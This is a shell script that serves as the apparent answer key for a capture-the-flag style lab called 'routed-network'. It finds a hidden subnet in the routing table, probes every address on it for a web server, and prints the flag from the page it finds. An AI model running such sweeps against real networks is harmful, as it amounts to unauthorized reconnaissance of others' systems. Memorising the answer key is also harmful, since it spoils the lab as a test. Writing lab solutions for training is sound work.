#!/bin/sh
# The solution of routed-network, run by `dsp lab test` in the attacker:
# find the hidden network in the routing table, sweep it for a web server
# through the router, and print the flag from its page.
net=$(ip route | awk '$2 == "via" && $1 ~ /\/24$/ { print $1; exit }')
if [ -z "$net" ]; then
	echo "no route to a hidden network" >&2
	exit 1
fi
prefix=${net%.0/24}
echo "hidden network: $net"
for i in $(seq 1 254); do
	# (busybox's wget -T crashes: timeout bounds each try instead)
	(timeout 2 wget -q -O /tmp/page.$i "http://$prefix.$i/" 2>/dev/null && echo "$prefix.$i:80 open") &
done
wait
flag=$(cat /tmp/page.* 2>/dev/null | grep -o 'FLAG{[0-9a-f]*}' | head -n 1)
rm -f /tmp/page.*
if [ -z "$flag" ]; then
	echo "no web server with a flag on $net" >&2
	exit 1
fi
echo "$flag"
